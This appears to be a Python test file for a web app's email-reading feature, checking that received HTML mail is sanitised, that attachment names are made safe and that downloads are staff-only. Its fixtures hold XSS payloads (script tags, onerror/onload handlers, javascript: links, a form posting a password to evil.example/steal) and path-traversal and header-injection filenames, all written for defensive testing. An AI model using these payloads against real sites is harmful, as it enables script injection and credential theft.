"""Staff see received mail safely (issue 16 §4, SECURITY.md): the text by default, the HTML sanitised by an
allow-list (no script, event handler, remote image, javascript: link, CSS url(), form), attachments
downloadable only by staff who may read the mail, as downloads."""
from email.message import EmailMessage

import pytest

from tests.conftest import login
from webapp.models import InboundRequest, Source, database
from webapp.rules.mail_html import sanitise
from webapp.services.mail_reading import read_stored, safe_filename
from webapp.timeutil import utcnow

NOTES = {"remote": "image distante bloquée", "inline": "image jointe", "other": "image"}
HOSTILE = """<html><head><style>body { background: url(https://track.example/css.png) }</style>
<script>alert('head')</script></head>
<body onload="alert('load')">
<p style="background-image: url('https://track.example/inline.png')">Bonjour, voici <b>mes questions</b>.</p>
<img src="https://track.example/pixel.gif" onerror="alert('img')" width="1">
<img src="cid:logo@nest">
<a href="javascript:alert('link')">cliquez</a> <a href="https://www.nest.example.sn/tarifs">tarifs</a>
<form action="https://evil.example/steal"><input name="password"><button>OK</button></form>
<iframe src="https://evil.example"></iframe><svg onload="alert('svg')"></svg>
<a title='<img src=x onerror=alert(1)>' href="https://x.example">t</a>
</body></html>"""


def hostile_mail() -> bytes:
    message = EmailMessage()
    message["From"] = "Awa Diop <awa.diop@gmail.com>"
    message["To"] = "accueil@nest.example.sn"
    message["Subject"] = "Mes questions <script>alert('subject')</script>"
    message["Message-ID"] = "<hostile-1@gmail.com>"
    message.set_content("Bonjour, voici mes questions (texte).")
    message.add_alternative(HOSTILE, subtype="html")
    message.add_attachment(b"%PDF-1.4 tarifs", maintype="application", subtype="pdf",
                           filename="../../etc/Tarifs NEST 2026 é.pdf")
    message.add_attachment(b"<svg onload=alert(1)></svg>", maintype="image", subtype="svg+xml",
                           filename='x"; evil=.svg')
    return bytes(message)


def test_the_sanitiser_keeps_the_text_and_drops_everything_active():
    safe = sanitise(HOSTILE, NOTES)
    html = safe.html.lower()
    assert "bonjour, voici <b>mes questions</b>." in html
    for gone in ("<script", "alert(", "onerror", "onload", "javascript:", "url(", "style", "<form", "<input",
                 "<iframe", "<svg", "track.example", "evil.example", "<img", "cid:"):
        assert gone not in html, gone
    assert '<a href="https://www.nest.example.sn/tarifs" rel="noopener noreferrer nofollow">tarifs</a>' in safe.html
    assert "[image distante bloquée]" in safe.html and "[image jointe]" in safe.html
    assert (safe.remote_images, safe.inline_images) == (1, 1)


@pytest.mark.parametrize("name, expected", [
    ("../../etc/passwd", "passwd"), ("Tarifs NEST é.pdf", "Tarifs NEST e.pdf"), ('a"; b=.svg', "a_ b_.svg"),
    ("..", "piece-jointe-1.pdf"), (None, "piece-jointe-1.pdf"), ("C:\\x\\y.exe", "y.exe"),
])
def test_attachment_names_are_made_safe(name, expected):
    assert safe_filename(name, 0, "application/pdf") == expected


def test_a_broken_mail_is_read_as_empty_never_an_error():
    assert read_stored(b"\x00\xff garbage").text is not None


@pytest.fixture
def hostile_request(app):
    with app.test_request_context(), database.connection_context():
        source = Source.create(slug="accueil", type="imap", name="Boîte accueil")
        return InboundRequest.create(source=source, content_type="message/rfc822", body=hostile_mail(),
                                     state="processed", triage=True, message_id="<hostile-1@gmail.com>",
                                     parsed={"channel": "email", "email": "awa.diop@gmail.com", "first_name": "Awa",
                                             "last_name": "Diop", "request": "Mes questions", "automated": None},
                                     processed_at=utcnow(), fingerprint="x")


def test_the_request_page_shows_the_text_and_the_html_view_shows_nothing_active(as_role, hostile_request):
    client = as_role("lead")
    page = client.get(f"/requests/{hostile_request.id}").get_data(as_text=True)
    assert "Bonjour, voici mes questions (texte)." in page
    assert "<script>alert" not in page and "&lt;script&gt;alert(&#39;subject&#39;)" in page
    html_view = client.get(f"/mail/{hostile_request.id}?view=html")
    page = html_view.get_data(as_text=True)
    body = page.split('<div class="mail-html">', 1)[1].split("</div>", 1)[0]
    assert html_view.status_code == 200 and "<b>mes questions</b>" in body
    assert "<script>alert" not in page and "<img" not in page
    for gone in ("alert(", "onerror", "javascript:", "url(", "track.example", "evil.example", "<form", "<iframe"):
        assert gone not in body, gone
    assert "script-src 'self'" in html_view.headers["Content-Security-Policy"]


def test_attachments_are_listed_and_downloaded_as_files_by_staff_only(as_role, client, hostile_request, make_user):
    lead = as_role("lead")
    page = lead.get(f"/requests/{hostile_request.id}").get_data(as_text=True)
    assert "etc_Tarifs NEST 2026 e.pdf" not in page and "Tarifs NEST 2026 e.pdf" in page
    download = lead.get(f"/mail/{hostile_request.id}/attachments/1")
    assert download.status_code == 200 and download.data == b"<svg onload=alert(1)></svg>"
    assert download.headers["Content-Disposition"] == 'attachment; filename="x_ evil_.svg"'
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Type"] == "application/octet-stream"
    assert "default-src 'self'" in download.headers["Content-Security-Policy"]
    assert lead.get(f"/mail/{hostile_request.id}/attachments/9").status_code == 404

    lead.post("/logout")
    assert client.get(f"/mail/{hostile_request.id}/attachments/0").status_code in (302, 401)
    login(client, make_user("admin"))
    assert client.get(f"/mail/{hostile_request.id}/attachments/0").status_code == 403


def test_an_html_only_mail_is_shown_as_text_by_default(as_role, app):
    message = EmailMessage()
    message["From"] = "Fatou Sow <fatou.sow@outlook.fr>"
    message["Subject"] = "Suivi de grossesse"
    message["Message-ID"] = "<html-only@outlook.fr>"
    message.set_content("<p>Bonjour,</p><p>Je suis enceinte de <b>3 mois</b>.</p><img src='https://t.example/p'>",
                        subtype="html")
    with app.test_request_context(), database.connection_context():
        source = Source.create(slug="accueil", type="imap", name="Boîte accueil")
        item = InboundRequest.create(source=source, content_type="message/rfc822", body=bytes(message),
                                     state="processed", triage=True, parsed={"email": "fatou.sow@outlook.fr"})
    page = as_role("lead").get(f"/requests/{item.id}").get_data(as_text=True)
    text = page.split('<pre class="mail-text">', 1)[1].split("</pre>", 1)[0]
    assert "Je suis enceinte de 3 mois" in " ".join(text.split()).replace("*", "")
    assert "t.example" not in page.split('<section class="card" aria-labelledby="request-headers-title">')[0]
